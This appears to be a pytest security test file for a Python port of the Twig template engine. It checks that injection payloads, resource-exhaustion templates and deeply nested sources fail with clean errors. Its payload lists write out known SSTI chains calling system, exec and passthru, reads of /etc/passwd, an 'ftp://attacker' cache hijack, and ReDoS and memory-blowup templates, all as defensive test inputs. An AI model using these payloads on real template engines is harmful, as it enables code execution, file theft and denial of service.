"""Template injection (SSTI) payloads adapted to Twig: none may reach Python or hang.

A mapping template reads only the record it is given. Every payload below must
either render harmlessly (no Python object, attribute or repr in the output)
or raise one of our Twig errors; a foreign exception, a crash or a hang fails.
"""

from __future__ import annotations

import os
import re
from typing import Any

import pytest

from openconnector import twig
from openconnector.twig import Environment

PYTHON_REPR = r"<(class|function|built-in|bound method|module|method)|object at 0x|Traceback"


class Secret:
    """A Python object in the data: its attributes must stay out of reach."""

    password = "hunter2"

    def __init__(self) -> None:
        self.token = "s3cr3t"

    def delete_everything(self) -> str:  # pragma: no cover - must never be called
        raise AssertionError("called a Python method from a template")


CONTEXT: dict[str, Any] = {
    "x": {"a": 1, "b": [1, 2]},
    "obj": Secret(),
    "fn": os.system,
    "name": "Bella",
}

PAYLOADS = [
    # classic Twig RCE chains
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "{{ _self.env.setCache('ftp://attacker') }}{{ _self.env.loadTemplate('backdoor') }}",
    "{{ ['id']|filter('system') }}",
    "{{ ['cat /etc/passwd']|map('passthru') }}",
    "{{ ['id', 0]|sort('system') }}",
    "{{ [0]|reduce('system', 'id') }}",
    "{{ ['id']|map('os.system') }}",
    "{{ [1]|map(fn) }}",
    "{{ {'a': 'id'}|filter('exec')|join }}",
    # Jinja2/Python-style object walks
    "{{ x.__class__.__base__.__subclasses__() }}",
    "{{ 'a'.__class__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ x.__init__.__globals__ }}",
    "{{ x.__dict__ }}",
    "{{ (1).__class__ }}",
    "{{ [].pop }}",
    "{{ [].pop() }}",
    "{{ {}.items }}",
    "{{ x.items() }}",
    "{{ x.keys() }}",
    "{{ x.get('a') }}",
    "{{ x['__class__'] }}",
    '{{ x.("__cla" ~ "ss__") }}',
    "{{ attribute(x, '__class__') }}",
    "{{ attribute(x, '__init__', []) }}",
    "{{ attribute(attribute(x, '__class__'), '__subclasses__', []) }}",
    "{{ obj.password }}{{ obj.token }}{{ obj.delete_everything }}{{ obj.delete_everything() }}",
    "{{ attribute(obj, 'delete_everything', []) }}",
    "{{ obj.__class__.__init__.__globals__['os'] }}",
    "{{ range(1, 3)|map(v => v.__class__)|join }}",
    "{{ _self }}{{ _self.__class__ }}",
    "{{ _context.__class__ }}",
    "{{ lipsum.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ config.items() }}",
    # format-string tricks
    "{{ '{0.__class__}'|format(x) }}",
    "{{ '%s'|format(obj) }}",
    "{{ '{x.__class__}'|replace({'x': 'y'}) }}",
    "{{ '%(password)s'|format(obj) }}",
    # functions and filters that do not exist in a mapping sandbox
    "{{ include('/etc/passwd') }}",
    "{{ source('/etc/passwd') }}",
    "{{ constant('PHP_VERSION') }}",
    "{{ dump(_context) }}",
    "{{ 'id'|system }}",
    "{% include '/etc/passwd' %}",
    "{{ 'a'|e('__class__') }}",
    "{{ 'x' matches '/(?{system(\"id\")})/' }}",
]


def render(template: str, context: dict[str, Any] | None = None, **options: Any) -> str:
    return Environment(**options).from_string(template).render(context or CONTEXT)


def assert_safe(template: str, **options: Any) -> None:
    try:
        out = render(template, **options)
    except twig.Error as e:
        assert not re.search(PYTHON_REPR, str(e)), str(e)
        return
    assert not re.search(PYTHON_REPR, out), out
    for dunder in re.findall(r"__\w+__", out):  # only if the template itself spelled it out as text
        assert dunder in template, out
    assert "hunter2" not in out and "s3cr3t" not in out


def test_there_are_at_least_twenty_payloads() -> None:
    assert len(PAYLOADS) >= 20


@pytest.mark.timeout(10)
@pytest.mark.parametrize("template", PAYLOADS)
def test_injection_payload_fails_safely(template: str) -> None:
    assert_safe(template)
    assert_safe(template, strict_variables=True)


@pytest.mark.parametrize("callback", ["'system'", "'exec'", "'os.system'", "'print'", "fn", "obj"])
@pytest.mark.parametrize("filter_name", ["map", "filter", "sort", "reduce", "find"])
def test_only_arrow_functions_are_callable(filter_name: str, callback: str) -> None:
    with pytest.raises(twig.RuntimeError, match="must be a Closure"):
        render(f"{{{{ ['id']|{filter_name}({callback}) }}}}")


def test_python_objects_in_the_data_expose_nothing() -> None:
    assert (
        render("[{{ obj.token }}|{{ obj.password }}|{{ attribute(obj, 'token') }}|{{ obj.__dict__ }}]")
        == "[|||]"
    )
    with pytest.raises(twig.RuntimeError, match='Object of class "Secret" could not be converted to string'):
        render("{{ obj }}")


def test_rendering_does_not_modify_the_callers_context() -> None:
    ctx = {"items": [1, 2], "h": {"a": 1}}
    render(
        "{% set items = items|merge([3]) %}{% set h = h|merge({b: 2}) %}{% set new = 1 %}{{ items|join }}",
        ctx,
    )
    assert ctx == {"items": [1, 2], "h": {"a": 1}}


# ------------------------------------------------------------ resource limits


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "template",
    [
        "{% for i in 1..10000000000 %}{% endfor %}",
        "{{ range(1, 1000000000000) }}",
        "{{ range(1, 10000000000, 0.5)|length }}",
        "{{ ('a'..'z')|length }}{{ (1..1e+12)|length }}",
        "{% for a in 1..1000 %}{% for b in 1..1000 %}{% for c in 1..1000 %}x{% endfor %}{% endfor %}{% endfor %}",
        "{% set s = 'xxxxxxxxxx' %}{% for i in 1..40 %}{% set s = s ~ s %}{% endfor %}{{ s|length }}",
        "{% set a = [1] %}{% for i in 1..40 %}{% set a = a|merge(a) %}{% endfor %}{{ a|length }}",
        "{% set s = 'x' %}{% for i in 1..30 %}{% set s = s|replace({'x': 'xx'}) %}{% endfor %}{{ s|length }}",
        "{% set s = 'x' %}{% for i in 1..30 %}{% set s = [s, s]|join %}{% endfor %}{{ s|length }}",
        "{{ '%999999999s'|format('x') }}",
        "{{ [1]|batch(1000000000000, 'x')|length }}",
        "{{ range(1, 10000)|map(x => range(1, 10000)|join)|length }}",
        "{{ range(1, 100000)|reduce((c, v) => c ~ c ~ v, 'x')|length }}",
        "{% for i in 1..200000 %}{{ '0123456789'|format }}{{ '0123456789' ~ i }}{% endfor %}",
        "{{ 2 ** 99999999999 }}{{ 99999999999 ** 99999999999 }}",
        "{{ 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' matches '/^(a+)+$/' }}",
        "{{ 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' matches '/^(a|aa)+$/' }}",
    ],
)
def test_resource_abuse_ends_with_a_clear_error(template: str) -> None:
    env = Environment(max_output=1_000_000)
    try:
        env.from_string(template).render({})
    except twig.RuntimeError as e:
        assert "limit" in str(e) or "too long" in str(e) or "refused" in str(e), str(e)
    except twig.Error as e:  # pragma: no cover - syntax errors are fine too
        assert isinstance(e, twig.SyntaxError), e


def test_limits_are_configurable() -> None:
    env = Environment(max_range=10, max_iterations=50, max_output=100)
    assert env.from_string("{{ (1..10)|join }}").render({}) == "12345678910"
    with pytest.raises(twig.RuntimeError, match="exceeds the limit of 10"):
        env.from_string("{{ (1..11)|join }}").render({})
    with pytest.raises(twig.RuntimeError, match="limit of 50 loop iterations"):
        env.from_string("{% for i in 1..10 %}{% for j in 1..10 %}{% endfor %}{% endfor %}").render({})
    with pytest.raises(twig.RuntimeError, match="limit of 100 characters"):
        env.from_string("{{ (1..10)|join('-----------------------') }}").render({})


# ------------------------------------------------------------ hostile template sources


@pytest.mark.timeout(10)
@pytest.mark.parametrize(
    "template",
    [
        "{{ " + "[" * 500 + "]" * 500 + " }}",
        "{{ " + "{a: " * 300 + "1" + "}" * 300 + " }}",
        "{{ " + "(" * 1000 + "1" + ")" * 1000 + " }}",
        "{{ " + "not " * 1000 + "1 }}",
        "{{ " + "-" * 1000 + "1 }}",
        "{{ 1" + " ** 1" * 1000 + " }}",
        "{{ 1" + " + 1" * 5000 + " }}",
        "{{ a" + ".b" * 5000 + " }}",
        "{{ a" + "[0]" * 5000 + " }}",
        "{{ x" + "|upper" * 5000 + " }}",
        "{{ " + "f(" * 500 + ")" * 500 + " }}",
        "{{ " + "x => " * 500 + "1 }}",
        "{{ '" + "#{" * 300 + "'",
        '{{ "' + "#{" * 300 + "1" + "}" * 300 + '" }}',
        "{% if 1 %}" * 300 + "{% endif %}" * 300,
        "{% for i in [1] %}" * 100 + "{% endfor %}" * 100,
        "{% with %}" * 300 + "{% endwith %}" * 300,
        "{% set a %}" * 300 + "{% endset %}" * 300,
        "{{ 1 ? " * 500 + "1" + " : 2" * 500 + " }}",
    ],
)
def test_deeply_nested_sources_raise_syntax_error_not_recursion_error(template: str) -> None:
    with pytest.raises(twig.SyntaxError):
        Environment().from_string(template)


def test_reasonable_nesting_still_works() -> None:
    env = Environment()
    assert env.from_string("{{ " + "[" * 20 + "1" + "]" * 20 + "|length }}").render({}) == "1"
    nested_ifs = "{% if 1 %}" * 10 + "ok" + "{% endif %}" * 10
    assert env.from_string(nested_ifs).render({}) == "ok"
    loops = "".join(f"{{% for i{n} in [1] %}}" for n in range(8)) + "ok" + "{% endfor %}" * 8
    assert env.from_string(loops).render({}) == "ok"


def test_each_limit_allows_exactly_its_value() -> None:
    """At the limit a template renders; one past it, it fails (ranges count their elements as
    iterations: a loop over 1..10 is 10 + 10 = 20)."""
    env = Environment(max_range=11, max_iterations=20, max_output=100)
    assert env.from_string("{% for i in 1..10 %}{% endfor %}ok").render({}) == "ok"
    with pytest.raises(twig.RuntimeError, match=r"^The template exceeded the limit of 20 loop iterations"):
        env.from_string("{% for i in 1..11 %}{% endfor %}").render({})
    assert len(env.from_string("{% set t = s ~ '' %}{{ t }}").render({"s": "x" * 100})) == 100
    with pytest.raises(twig.RuntimeError, match=r"^The string exceeded the limit of 100 characters"):
        env.from_string("{% set t = s ~ '' %}").render({"s": "x" * 101})
    assert env.from_string("{{ 'a' ~ 1 ~ 'b' }}").render({}) == "a1b"
    assert env.from_string("{{ (1..11)|length }}").render({}) == "11"
    with pytest.raises(twig.RuntimeError, match=r"^A range of 12 elements exceeds the limit of 11"):
        env.from_string("{{ (1..12)|length }}").render({})


def test_output_is_counted_once_however_often_it_is_checked() -> None:
    """The output limit is checked every 1,024 iterations; each check counts what was added
    since the last one, so 3,000 characters pass a limit of 3,100 and 4,000 do not."""
    env = Environment(max_output=3100)
    assert len(env.from_string("{% for i in 1..3000 %}x{% endfor %}").render({})) == 3000
    with pytest.raises(twig.RuntimeError, match=r"^The output exceeded the limit of 3100 characters"):
        env.from_string("{% for i in 1..4000 %}x{% endfor %}").render({})
    again = env.from_string("{% for i in 1..3000 %}x{% endfor %}")
    assert len(again.render({})) == len(again.render({})) == 3000  # a new render starts from zero


def test_the_output_limit_is_exact_where_it_is_checked() -> None:
    """A loop checks its output every 1,024 iterations: over 1..1024 the check comes after
    1,023 characters, so a limit of 1,022 stops the loop and 1,023 lets it finish."""
    loop = "{% for i in 1..1024 %}x{% endfor %}"
    with pytest.raises(twig.RuntimeError, match=r"^The output exceeded the limit of 1022 characters"):
        Environment(max_output=1022).from_string(loop).render({})
    assert len(Environment(max_output=1023).from_string(loop).render({})) == 1024


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ('{{ range("a", 3)|join(",") }}', "0,1,2,3"),  # one side a number: numbers
        ('{{ range(3, "a")|join(",") }}', "3,2,1,0"),
        ('{{ range("1", "3")|join(",") }}', "1,2,3"),  # two numeric strings: numbers
        ('{{ range("a", "c")|join(",") }}', "a,b,c"),  # two letters: characters
        ('{{ range("1", "c")|length }}', "51"),  # a digit and a letter: characters "1" to "c"
    ],
)
def test_ranges_of_strings_follow_php(template: str, expected: str) -> None:
    assert Environment().from_string(template).render({}) == expected


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("{{ range('a', 'e')|join }}", "abcde"),
        ("{{ range('a', 'e', 2)|join }}", "ace"),
        (
            "{{ range('a', 'e', -2)|join }}",
            "ace",
        ),  # the step's sign is ignored: the bounds give the direction
        ("{{ range('a', 'e', 0)|join }}", "abcde"),  # a zero step is 1
        ("{{ range('e', 'a', 2)|join }}", "eca"),
        ("{{ range('c', 'c')|join }}", "c"),
        ("{{ range('a', 'c')|length }}", "3"),
    ],
)
def test_a_range_of_letters_steps_as_php_does(template, expected):
    assert render(template) == expected


def test_a_range_of_numbers_with_a_float_bound_and_a_zero_step():
    assert render("{{ range(0.5, 2)|join(',') }}") == "0.5,1.5"
    assert render("{{ range(3, 1.5)|join(',') }}") == "3,2"
    assert render("{{ range(2, 1, 0.5)|join(',') }}") == "2,1.5,1"
    with pytest.raises(twig.RuntimeError, match=r'^range\(\): Argument #3 \(\$step\) cannot be 0 in "index'):
        render("{{ range(1, 5, 0) }}")


def test_a_range_of_floats_is_finite_and_within_its_limit():
    with pytest.raises(twig.RuntimeError, match=r"^range\(\): Argument must be a finite number in "):
        render("{{ range(0.5, big) }}", {"big": float("inf")})
    with pytest.raises(twig.RuntimeError, match=r"^A range of 100 elements exceeds the limit of 10"):
        render("{{ range(0.5, 99.5)|length }}", max_range=10)
    assert render("{{ range(0.5, 9.5)|length }}", max_range=10) == "10"
